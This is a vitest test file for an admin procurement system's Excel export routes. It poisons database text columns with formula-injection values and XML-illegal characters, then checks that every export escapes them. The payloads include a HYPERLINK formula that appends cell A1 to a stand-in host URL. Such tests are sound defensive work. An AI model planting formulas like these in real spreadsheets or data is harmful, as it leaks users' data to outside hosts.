import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { allRoutes } from '../src/modules';
import { download } from './excel';
import { createTestApp, queryRows, type TestApp } from './helpers';

/*
 * docs/rules/imports.md, "Exports", generated from the route registry: every export route is run
 * over demo data whose names and remarks start like formulas (= + - @) and hold characters XML 1.0
 * does not allow; no cell, header or sheet name of any file may be a formula or start like one,
 * and every part of the file must be XML a strict reader accepts.
 */

let t: TestApp;
let admin: string;
let comparedTaskId: number;

/** Text columns users fill in: each row's value becomes formula-like, with XML-illegal characters. */
const POISONED: [table: string, column: string][] = [
  ['suppliers', 'name'],
  ['suppliers', 'remark'],
  ['commodities', 'name'],
  ['categories', 'name'],
  ['planning_tasks', 'name'],
  ['planning_tasks', 'remark'],
  ['procurement_tasks', 'name'],
  ['procurement_tasks', 'remark'],
  ['dict_types', 'name'],
  ['dict_items', 'label'],
  ['price_templates', 'name'],
  ['back_users', 'username'],
  ['purchase_orders', 'close_reason'],
  ['warehouses', 'address'],
];
const STARTS = ['=HYPERLINK("http://x.test/"&A1,"点我")', '+1+1', '-2+3', '@SUM(1,1)'];
const FORMULA_LIKE = /^[=+\-@]/;
const NOT_XML = /[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u;

/** A body per export route; a new export route fails the test until it has one. */
const bodies = (): Record<string, unknown> => ({
  '/admin/planning_task/export': {},
  '/admin/dict_type/export': {},
  '/admin/procurement_task/export': {},
  '/admin/procurement_task/export_compare': { id: comparedTaskId },
  '/admin/supplier/export': {},
  '/admin/price_template/export': {},
  '/admin/commodity/export': {},
  '/admin/purchase_order/export': {},
  '/admin/purchase_return/export': {},
  '/admin/supplier_statement/export': {},
  '/admin/warehouse/export': {},
});

const exportRoutes = allRoutes.filter((r) => /^export/.test(r.endpoint.path.split('/').at(-1) ?? ''));

beforeAll(async () => {
  t = await createTestApp({ seedDemo: true });
  admin = await t.login();
  const [task] = await queryRows<{ task_id: number }>(
    t,
    sql`select task_id from quotations group by task_id order by count(*) desc, task_id limit 1`,
  );
  comparedTaskId = task.task_id;
  const cases = STARTS.map((start, i) => sql`when id % ${STARTS.length} = ${i} then ${start}`);
  for (const [table, column] of POISONED) {
    await t.database.db.execute(
      sql`update ${sql.identifier(table)} set ${sql.identifier(column)} =
        (case ${sql.join(cases, sql` `)} end) || ' #' || id || chr(65535) || chr(1) || chr(65534)`,
    );
  }
});
afterAll(() => t.close());

describe('every export escapes every cell, header and sheet name', () => {
  it('knows a body for every export route', () => {
    expect(exportRoutes.length).toBeGreaterThanOrEqual(7);
    for (const route of exportRoutes) expect(Object.keys(bodies()), route.endpoint.path).toContain(route.endpoint.path);
  });

  it.each(exportRoutes.map((r) => [r.endpoint.path, r] as const))('%s', async (path, route) => {
    const response = await download(t, route.endpoint, bodies()[path], admin);
    expect(response.statusCode, response.body.slice(0, 200)).toBe(200);
    const buffer = response.rawPayload;

    const zip = await JSZip.loadAsync(buffer);
    for (const name of Object.keys(zip.files).filter((n) => n.endsWith('.xml'))) {
      const xml = await zip.file(name)!.async('string');
      expect(NOT_XML.test(xml), `${name} holds a character XML 1.0 does not allow`).toBe(false);
      expect(xml, `${name} holds a formula`).not.toMatch(/<f[ >]/);
    }

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
    const wrong: string[] = [];
    let escaped = 0;
    for (const sheet of workbook.worksheets) {
      if (FORMULA_LIKE.test(sheet.name) || sheet.name.startsWith("'")) wrong.push(`sheet name ${sheet.name}`);
      sheet.eachRow((row, r) =>
        row.eachCell((cell, c) => {
          if (cell.type === ExcelJS.ValueType.Formula) wrong.push(`${sheet.name}!R${r}C${c} is a formula`);
          if (typeof cell.value === 'string' && FORMULA_LIKE.test(cell.value)) wrong.push(`${sheet.name}!R${r}C${c} = ${cell.value}`);
          if (typeof cell.value === 'string' && /^'[=+\-@].* #\d+/.test(cell.value)) escaped += 1;
        }),
      );
    }
    expect(wrong).toEqual([]);
    // The poisoned names did reach the file, escaped: the check above is not vacuous.
    expect(escaped).toBeGreaterThan(0);
  });
});
